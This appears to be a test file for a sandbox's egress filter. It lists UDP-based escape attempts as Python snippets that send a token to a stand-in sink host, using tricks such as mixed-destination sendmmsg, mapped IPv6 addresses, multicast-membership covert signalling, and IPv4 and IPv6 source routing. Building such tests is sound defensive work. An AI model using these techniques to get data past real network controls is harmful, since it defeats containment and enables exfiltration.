/** Ways round by UDP and what rides on it. */
import type { Place, Vector } from "../vector.ts";

const UNLISTED = ["unlisted"];
/** Refused at setsockopt, before the kernel asks for a capability; the egress filter drops what passed all the same. */
const SOCKET_OPTION = ["socket-option"];
/** A plain user may set no IPv4 source route, guarded or not. */
const HOLDS_NET_RAW: readonly Place[] = ["root", "child", "container"];

export const UDP: readonly Vector[] = [
  {
    name: "udp-unconnected",
    what: "sends a datagram without connect",
    attack: `
sock = datagram(T["sink4"])
step("sendto")
sock.sendto(TOKEN, (T["sink4"], T["port"]["sink"]))`,
    closedBy: UNLISTED,
  },
  {
    name: "udp-connected",
    what: "connects a datagram socket, then sends",
    attack: `
sock = datagram(T["sink4"])
step("connect")
sock.connect((T["sink4"], T["port"]["sink"]))
sock.send(TOKEN)`,
    closedBy: UNLISTED,
  },
  {
    name: "udp-ipv6",
    what: "sends a datagram over IPv6",
    attack: `
sock = datagram(T["sink6"])
step("sendto")
sock.sendto(TOKEN, (T["sink6"], T["port"]["sink"]))`,
    closedBy: UNLISTED,
  },
  {
    name: "udp-mapped",
    what: "sends to ::ffff:a.b.c.d from an IPv6 datagram socket, unconnected",
    attack: `
sock = datagram("::")
step("sendto")
sock.sendto(TOKEN, ("::ffff:" + T["sink4"], T["port"]["sink"]))`,
    closedBy: UNLISTED,
  },
  {
    name: "udp-mapped-connected",
    what: "connects an IPv6 datagram socket to ::ffff:a.b.c.d",
    attack: `
sock = datagram("::")
step("connect")
sock.connect(("::ffff:" + T["sink4"], T["port"]["sink"]))
sock.send(TOKEN)`,
    closedBy: UNLISTED,
  },
  {
    name: "udp-many-at-once",
    what: "sends by sendmmsg: the first datagram to an allowed address, the second elsewhere",
    attack: `
sock = datagram(T["sink4"])
step("sendmmsg")
data = ctypes.create_string_buffer(TOKEN, len(TOKEN))
vector = (ctypes.c_uint64 * 2)(ctypes.addressof(data), len(TOKEN))
messages = ctypes.create_string_buffer(64 * 2)
kept = []
for at, (host, port) in enumerate([(T["allowed4"], 123), (T["sink4"], T["port"]["sink"])]):
    name = ctypes.create_string_buffer(struct.pack("=H", 2) + struct.pack(">H4s8x", port, socket.inet_aton(host)), 16)
    kept.append(name)
    struct.pack_into("=QIxxxxQQQQIxxxxIxxxx", messages, 64 * at,
                     ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
if LIBC.sendmmsg(sock.fileno(), messages, 2, 0) < 2:
    raise OSError(ctypes.get_errno() or errno.EPERM, "sendmmsg")`,
    closedBy: UNLISTED,
  },
  {
    name: "udp-allowed-then-other",
    what: "connects to an allowed address, then sends elsewhere with the same socket",
    attack: `
sock = datagram(T["sink4"])
step("connect")
sock.connect((T["allowed4"], 123))
step("sendto")
sock.sendto(TOKEN, (T["sink4"], T["port"]["sink"]))`,
    closedBy: UNLISTED,
  },
  {
    name: "udp-lite",
    what: "uses a UDP-Lite socket",
    attack: `
step("socket")
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
step("sendto")
sock.sendto(TOKEN, (T["sink4"], T["port"]["sink"]))`,
    closedBy: ["socket-kind"],
  },
  {
    name: "quic",
    what: "sends a QUIC Initial to UDP port 443",
    attack: `
sock = datagram(T["sink4"])
step("connect")
sock.connect((T["sink4"], 443))
sock.send(b"\\xc3\\x00\\x00\\x00\\x01\\x08" + TOKEN.ljust(1200, b"\\0"))`,
    closedBy: UNLISTED,
  },
  {
    name: "udp-loopback",
    what: "sends to a service on UDP 127.0.0.1",
    attack: `
sock = datagram("127.0.0.1")
step("sendto")
sock.sendto(TOKEN, ("127.0.0.1", T["port"]["loopback"]))`,
    closedBy: UNLISTED,
  },
  {
    name: "udp-broadcast",
    what: "sends to the broadcast address",
    attack: `
sock = datagram(T["sink4"])
sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
step("sendto")
sock.sendto(TOKEN, ("198.18.0.255", T["port"]["sink"]))`,
    closedBy: UNLISTED,
  },
  {
    name: "udp-multicast",
    what: "sends to the multicast group of mDNS",
    attack: `
sock = datagram(T["sink4"])
sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(T["own4"]))
step("sendto")
sock.sendto(TOKEN, ("224.0.0.251", 5353))`,
    closedBy: UNLISTED,
  },
  {
    name: "multicast-membership",
    what: "joins multicast groups whose numbers are the data: the kernel itself tells the network",
    attack: `
sock = datagram(T["sink4"])
step("IP_ADD_MEMBERSHIP")
sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(T["group"]) + socket.inet_aton(T["own4"]))
time.sleep(0.3)`,
    judge: "group",
    closedBy: SOCKET_OPTION,
  },
  {
    name: "udp-answers-local-outsider",
    what: "waits on loopback for an outsider's datagram and answers it",
    attack: `
sock = datagram("127.0.0.1")
sock.bind(("127.0.0.1", 0))
ask("local", do="ask-udp", host="127.0.0.1", port=sock.getsockname()[1])
step("receive")
_, sender = sock.recvfrom(100)
step("sendto")
sock.sendto(TOKEN, sender)`,
    closedBy: UNLISTED,
  },
  {
    name: "udp-answers-other-host",
    what: "waits for another host's datagram and answers it",
    attack: `
sock = datagram("0.0.0.0")
sock.bind(("0.0.0.0", 0))
ask("far", do="ask-udp", host=T["own4"], port=sock.getsockname()[1])
step("receive")
_, sender = sock.recvfrom(100)
step("sendto")
sock.sendto(TOKEN, sender)`,
    closedBy: UNLISTED,
  },
  {
    name: "source-routing",
    what: "sends to an allowed address with a loose source route over a forbidden host",
    attack: `
sock = datagram(T["allowed4"])
step("IP_OPTIONS")
route = bytes([131, 7, 4]) + socket.inet_aton(T["sink4"]) + b"\\0"
sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route)
step("sendto")
sock.sendto(TOKEN, (T["allowed4"], 123))
time.sleep(0.2)`,
    places: HOLDS_NET_RAW,
    closedBy: SOCKET_OPTION,
  },
  {
    name: "routing-header",
    what: "sends to an allowed IPv6 address with a segment routing header over a forbidden host",
    attack: `
sock = datagram(T["allowed6"])
step("IPV6_RTHDR")
hop, last = socket.inet_pton(socket.AF_INET6, T["sink6"]), bytes(16)
header = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + last + hop
sock.setsockopt(socket.IPPROTO_IPV6, 57, header)
step("sendto")
sock.sendto(TOKEN, (T["allowed6"], 123))
time.sleep(0.2)`,
    closedBy: SOCKET_OPTION,
  },
];
